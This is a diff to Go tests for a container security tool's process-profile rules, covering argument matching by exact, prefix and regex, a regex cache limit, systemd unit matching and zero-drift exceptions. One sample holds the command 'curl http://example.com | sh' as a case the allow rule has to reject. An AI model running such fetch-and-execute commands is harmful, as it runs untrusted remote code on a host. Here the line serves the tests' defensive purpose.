@@ -10,6 +10,8 @@ import (
 type appSample struct {
 	name string
 	path string
+	args string
+	unit string
 	good bool
 }
 
@@ -32,6 +34,8 @@ func tester(pp *share.CLUSProcessProfileEntry, apps []appSample) bool {
 		ppe := &share.CLUSProcessProfileEntry{
 			Name: app.name,
 			Path: app.path,
+			Args: app.args,
+			Unit: app.unit,
 		}
 
 		//////// match policy
@@ -315,3 +319,115 @@ func TestWildcardNameRecursivePathDenyPolicy(t *testing.T) {
 		t.Errorf("")
 	}
 }
+
+func TestArgsMatchedPolicy(t *testing.T) {
+	profile := &share.CLUSProcessProfileEntry{ // exact
+		Name: "python", Path: "/usr/bin/python", Args: "app.py --port 80", ArgsMatch: share.ProcArgsMatchExact, Action: share.PolicyActionAllow,
+	}
+
+	apps := []appSample{ // app
+		{name: "python", path: "/usr/bin/python", args: "app.py --port 80", good: true},
+		{name: "python", path: "/usr/bin/python", args: "app.py --port 8080"},
+		{name: "python", path: "/usr/bin/python"},
+		{name: "python", path: "/bin/python", args: "app.py --port 80"},
+	}
+
+	if !tester(profile, apps) {
+		t.Errorf("")
+	}
+
+	profile2 := &share.CLUSProcessProfileEntry{ // prefix
+		Name: "java", Path: "/usr/bin/java", Args: "-jar /app/", ArgsMatch: share.ProcArgsMatchPrefix, Action: share.PolicyActionAllow,
+	}
+
+	apps2 := []appSample{ // app
+		{name: "java", path: "/usr/bin/java", args: "-jar /app/server.jar", good: true},
+		{name: "java", path: "/usr/bin/java", args: "-jar /tmp/server.jar"},
+	}
+
+	if !tester(profile2, apps2) {
+		t.Errorf("")
+	}
+
+	profile3 := &share.CLUSProcessProfileEntry{ // regex
+		Name: "sh", Path: "*", Args: `^-c (ls|cat) `, ArgsMatch: share.ProcArgsMatchRegex, Action: share.PolicyActionAllow,
+	}
+
+	apps3 := []appSample{ // app
+		{name: "sh", path: "/bin/sh", args: "-c ls /tmp", good: true},
+		{name: "sh", path: "/bin/sh", args: "-c curl http://example.com | sh"},
+	}
+
+	if !tester(profile3, apps3) {
+		t.Errorf("")
+	}
+
+	profile4 := &share.CLUSProcessProfileEntry{ // invalid regex never matches
+		Name: "sh", Path: "*", Args: `(`, ArgsMatch: share.ProcArgsMatchRegex, Action: share.PolicyActionAllow,
+	}
+
+	apps4 := []appSample{ // app
+		{name: "sh", path: "/bin/sh", args: "("},
+	}
+
+	if !tester(profile4, apps4) {
+		t.Errorf("")
+	}
+}
+
+func TestArgsRegexCacheLimit(t *testing.T) {
+	for i := 0; i < argsRegexCacheMax+10; i++ {
+		entry := &share.CLUSProcessProfileEntry{Args: fmt.Sprintf("^-c %d$", i), ArgsMatch: share.ProcArgsMatchRegex}
+		if !matchProcessArgs(entry, fmt.Sprintf("-c %d", i)) {
+			t.Errorf("Args regex is not matched: %v", entry.Args)
+		}
+		if len(argsRegexCache) > argsRegexCacheMax {
+			t.Fatalf("Args regex cache exceeds the limit: %v", len(argsRegexCache))
+		}
+	}
+
+	// patterns compiled before the reset still match
+	entry := &share.CLUSProcessProfileEntry{Args: "^-c 0$", ArgsMatch: share.ProcArgsMatchRegex}
+	if !matchProcessArgs(entry, "-c 0") || matchProcessArgs(entry, "-c 1") {
+		t.Errorf("Unexpected args match after cache reset")
+	}
+}
+
+func TestUnitMatchedPolicy(t *testing.T) {
+	profile := &share.CLUSProcessProfileEntry{
+		Name: "sshd", Path: "/usr/sbin/sshd", Unit: "ssh.service", Action: share.PolicyActionAllow,
+	}
+
+	apps := []appSample{ // app
+		{name: "sshd", path: "/usr/sbin/sshd", unit: "ssh.service", good: true},
+		{name: "sshd", path: "/usr/sbin/sshd", unit: "session-3.scope"},
+		{name: "sshd", path: "/usr/sbin/sshd"},
+	}
+
+	if !tester(profile, apps) {
+		t.Errorf("")
+	}
+}
+
+func TestZeroDriftException(t *testing.T) {
+	zd := &share.CLUSZeroDrift{
+		Paths: []string{"/usr/bin/dpkg", "/usr/lib/apt/*"},
+		Names: []string{"apk"},
+	}
+
+	apps := []appSample{
+		{name: "dpkg", path: "/usr/bin/dpkg", good: true},
+		{name: "http", path: "/usr/lib/apt/methods/http", good: true},
+		{name: "apk", path: "/sbin/apk", good: true},
+		{name: "dpkg-deb", path: "/usr/bin/dpkg-deb"},
+		{name: "apt", path: "/usr/lib/apt"},
+		{name: "apt", path: "/usr/lib/aptitude/apt"},
+		{name: "sh", path: "/bin/sh"},
+	}
+
+	for _, app := range apps {
+		if isZeroDriftException(zd, app.name, app.path) != app.good {
+			t.Errorf("Unexpected zero-drift exception: %+v", app)
+		}
+	}
+}